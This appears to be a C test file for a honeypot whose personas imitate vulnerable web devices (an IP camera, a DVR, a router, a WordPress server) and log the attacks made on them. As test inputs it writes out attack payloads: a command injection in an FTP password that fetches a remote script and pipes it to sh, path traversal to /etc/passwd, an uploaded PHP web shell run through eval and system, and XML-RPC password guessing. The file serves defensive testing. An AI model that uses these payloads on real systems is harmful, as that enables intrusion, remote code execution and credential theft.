/* The shipped personas as their visitors meet them on port 80. */
#include "passive/persona.h"
#include "passive/rehearse.h"
#include "tests/test.h"

#define SAID_MAX 65536

static struct persona_set set;
static uint8_t answer_room[SAID_MAX], events_room[SAID_MAX];
static struct bytes answer, events;

static void meet(const char *persona, struct bytes sent)
{
	struct fault fault = {0};
	set = (struct persona_set){0};
	CHECK_SAY(persona_read_directory(&set, "etc/personas", &fault) == 0, "%s", fault.text);
	CHECK(event_start(NULL) == 0);
	const struct persona *p = persona_named(&set, persona);
	CHECK(p);
	struct transcript t = {writer_of(answer_room, SAID_MAX), writer_of(events_room, SAID_MAX),
			       0};
	SERVICES_EACH(it)
	if (!strcmp((*it)->name, "http"))
		service_rehearse(*it, p, sent, 100, &t);
	answer = writer_bytes(&t.answer);
	events = writer_bytes(&t.events);
	CHECK(!t.answer.bad && !t.events.bad && answer.len);
	persona_set_done(&set);
}

static bool said(const char *text)
{
	return bytes_find(answer, text) < answer.len;
}
static bool told(const char *text)
{
	return bytes_find(events, text) < events.len;
}
static bool begins(const char *text)
{
	return bytes_start_with(answer, text);
}

TEST(http_camera_asks_for_digest_and_takes_basic)
{
	meet("camera", BYTES("GET / HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.1 401 Unauthorized\r\nServer: GoAhead-Webs\r\nDate: Wed Apr  1 "
		     "00:00:00 2015\r\n"
		     "WWW-Authenticate: Digest realm=\"WIFICAM\", domain=\":80\",qop=\"auth\", "
		     "nonce=\""));
	CHECK(said("<p>Access to this document requires a User ID</p>"));
	meet("camera",
	     BYTES("GET /get_status.cgi HTTP/1.0\r\nAuthorization: Basic YWRtaW46\r\n\r\n"));
	CHECK(begins("HTTP/1.0 200 OK\r\nServer: GoAhead-Webs\r\n") &&
	      said("var realdeviceid=\"WXH-"));
	CHECK(told("\"login.user\":\"admin\",\"login.secret\":\"\",\"login.accepted\":true"));
	meet("camera", BYTES("GET //get_status.cgi HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.1 401 "));
	meet("camera", BYTES("FOO / HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.1 400 Page not found\r\n"));
}

TEST(http_camera_is_attacked_by_its_parameters)
{
	meet("camera",
	     BYTES("GET /set_ftp.cgi?next_url=ftp.htm&loginuse=admin&loginpas=888888&svr=192.0.2.1&"
		   "port=21&user=ftp&pwd=$(wget+http://198.51.100.9/n.sh+-O-|sh)&dir=/ "
		   "HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.0 200 OK") && said("var result=\"ok\""));
	CHECK(told("\"login.secret\":\"888888\",\"login.accepted\":true") &&
	      told("\"file.url\":\"http://198.51.100.9/n.sh\""));
	meet("camera", BYTES("GET /set_ftp.cgi?loginuse=admin&loginpas=wrong HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.1 401 ") && told("\"login.accepted\":false"));
	meet("camera", BYTES("GET /system.ini?loginuse&loginpas HTTP/1.0\r\n\r\n"));
	CHECK(said("admin:888888"));
	meet("camera", BYTES("GET /public.js HTTP/1.1\r\nHost: a\r\nConnection: keep-alive\r\n\r\n"
			     "GET /favicon.ico HTTP/1.1\r\nHost: a\r\n\r\nGET / HTTP/1.1\r\n\r\n"));
	CHECK(said("Connection: keep-alive\r\n") && said("image/x-icon") && !said(" 401 "));
	meet("camera", BYTES("GET /favicon.ico HTTP/1.0\r\n\r\n"));
	CHECK(said("Content-length: 198\r\nContent-type: image/x-icon\r\n"));
}

TEST(http_dvr_has_a_form_and_a_cookie)
{
	meet("dvr", BYTES("GET / HTTP/1.1\r\nHost: a\r\n\r\n"));
	CHECK(begins("HTTP/1.0 200 OK\r\nContent-type: text/html\r\nServer: uc-httpd "
		     "1.0.0\r\nExpires: 0\r\n\r\n"));
	CHECK(said("NETSurveillance WEB") && !said("Date:"));
	meet("dvr", BYTES("GET /DVR.htm HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.0 200 OK") && said("loginForm"));
	meet("dvr", BYTES("POST /Login.htm HTTP/1.0\r\nContent-Length: "
			  "38\r\n\r\ncommand=login&username=admin&password="));
	CHECK(said("window.location.href=\"DVR.htm\"") && said("Set-Cookie: DVRSession="));
	CHECK(told("\"login.user\":\"admin\",\"login.secret\":\"\",\"login.accepted\":true"));
	char request[256];
	size_t at = bytes_find(answer, "DVRSession=");
	snprintf(request, sizeof request, "GET /DVR.htm HTTP/1.0\r\nCookie: a=b; %.27s\r\n\r\n",
		 (const char *)answer.at + at);
	meet("dvr", bytes_of_text(request));
	CHECK(said("931.51 GB"));
	meet("dvr", BYTES("GET /../../../../../etc/passwd HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.0 200 OK") && said("root:"));
	meet("dvr", BYTES("GET /../../no/such HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.0 404 Not Found"));
}

TEST(http_router_locks_everything)
{
	meet("router", BYTES("GET /anything HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.1 401 N/A\r\nServer: Router Webserver\r\nConnection: "
		     "close\r\nContent-Type: text/html\r\n"
		     "WWW-Authenticate: Basic realm=\"TP-LINK Wireless N Router WR841N\"\r\n\r\n"));
	meet("router", BYTES("GET /userRpm/StatusRpm.htm HTTP/1.0\r\nAuthorization: Basic "
			     "YWRtaW46YWRtaW4=\r\n\r\n"));
	CHECK(begins("HTTP/1.1 200 OK\r\n") && said("192.0.2.23") &&
	      told("\"login.accepted\":true"));
	meet("router", BYTES("GET /login/../../../etc/passwd HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.1 200 OK\r\n") && said("root:"));
}

#define FORM_BEGIN "POST /upload.php HTTP/1.1\r\nHost: a\r\nContent-Type: multipart/form-data; boundary=xx\r\n"
#define FORM_PART "--xx\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.php\"\r\n\r\n"

TEST(http_webserver_runs_what_was_uploaded)
{
	meet("webserver", BYTES(FORM_BEGIN "Content-Length: 129\r\n\r\n" FORM_PART
	                                   "<?php echo md5('a').(6*7); @eval($_POST['x']);?>\r\n--xx--\r\n"
	                                   "POST /uploads/a.php HTTP/1.1\r\nHost: a\r\nContent-Length: 31\r\n\r\n"
	                                   "x=system(%22echo+in%3Bid%22)%3B"));
	CHECK(said("0cc175b9c0f1b6a831c399e26977266142in\nuid=0(root)"));
	CHECK(told("\"command.line\":\"echo in;id\"") && told("\"file.name\":\"a.php\""));
	meet("webserver", BYTES("GET /uploads/a.php?x=1 HTTP/1.1\r\nHost: a\r\n\r\n"));
	CHECK(begins("HTTP/1.1 404 Not Found\r\nDate: Wed, 01 Apr 2015 00:00:00 GMT\r\nServer: Apache/2.4.56 (Debian)\r\n"));
}

TEST(http_webserver_shows_the_file_that_a_parameter_names)
{
	meet("webserver", BYTES("GET /download.php?file=..%2f..%2f..%2fetc%2fpasswd%00.png HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.1 200 OK\r\n") && said("root:x:0:0:root:/root:/bin/bash\n"));
	meet("webserver", BYTES("GET /%2e%2e/etc/passwd HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.1 400 Bad Request\r\n") && !said("root:"));
	meet("webserver", BYTES("GET /robots.txt HTTP/1.0\r\n\r\n"));
	CHECK(said("Accept-Ranges: bytes\r\n") && said("Content-Type: text/plain\r\n") &&
	      said("Sitemap: http://192.0.2.23/wp-sitemap.xml\n"));
	meet("webserver", BYTES("GET /wp-config.php HTTP/1.0\r\n\r\n"));
	CHECK(begins("HTTP/1.1 200 OK\r\n") && !said("DB_PASSWORD"));
}

TEST(http_webserver_takes_passwords_over_xmlrpc)
{
	meet("webserver", BYTES("POST /xmlrpc.php HTTP/1.0\r\nContent-Length: 407\r\n\r\n"
	                        "<methodCall><methodName>system.multicall</methodName><params><param><value><array><data>"
	                        "<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member>"
	                        "<member><name>params</name><value><array><data><value><string>admin</string></value>"
	                        "<value><string>letmein</string></value></data></array></value></member></struct></value>"
	                        "</data></array></value></param></params></methodCall>"));
	CHECK(begins("HTTP/1.1 200 OK\r\n") && said("Incorrect username or password."));
	CHECK(told("\"login.user\":\"admin\",\"login.secret\":\"letmein\",\"login.accepted\":false"));
	meet("webserver", BYTES("POST /xmlrpc.php HTTP/1.0\r\nContent-Length: 198\r\n\r\n"
	                        "<methodCall><methodName>pingback.ping</methodName><params><param><value>"
	                        "<string>http://203.0.113.5/</string></value></param><param><value><string>http://192.0.2.23/"
	                        "</string></value></param></params></methodCall>   "));
	CHECK(told("\"file.url\":\"http://203.0.113.5/\"") && told("\"file.how\":\"pingback\""));
}

TEST(http_webserver_has_two_forms)
{
	meet("webserver", BYTES("POST /wp-login.php HTTP/1.0\r\nContent-Length: 19\r\n\r\nlog=admin&pwd=admin"));
	CHECK(begins("HTTP/1.1 302 Found\r\n") && said("Set-Cookie: wordpress_logged_in_"));
	meet("webserver", BYTES("POST /phpmyadmin/index.php HTTP/1.0\r\nContent-Length: 32\r\n\r\npma_username=root&pma_password=x "));
	CHECK(said("Access denied for user") && told("\"login.user\":\"root\""));
}
